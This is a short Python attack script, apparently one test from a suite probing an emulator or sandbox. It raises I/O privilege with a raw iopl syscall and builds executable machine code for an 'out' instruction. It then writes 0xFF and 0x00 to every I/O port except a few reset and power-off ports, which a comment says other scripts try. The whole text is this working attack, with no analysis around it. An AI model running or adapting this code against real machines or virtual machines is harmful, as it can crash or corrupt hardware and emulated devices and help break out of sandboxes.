# Port I/O with everything an emulated machine may listen on.
import ctypes
import mmap
import signal
from attack import syscall

signal.alarm(2)
syscall(172, 3)
# mov edx, edi; mov eax, esi; out dx, al; ret
code = mmap.mmap(-1, 4096, prot=7)
code.write(bytes([0x89, 0xFA, 0x89, 0xF0, 0xEE, 0xC3]))
out = ctypes.CFUNCTYPE(None, ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
print("writing to every port", flush=True)
SKIP = {0x64, 0xCF9, 0x604, 0xB004}  # these only reset or power off, which others try
for value in (0xFF, 0x00):
    for port in range(0x10000):
        if port not in SKIP:
            out(port, value)
print("done", flush=True)
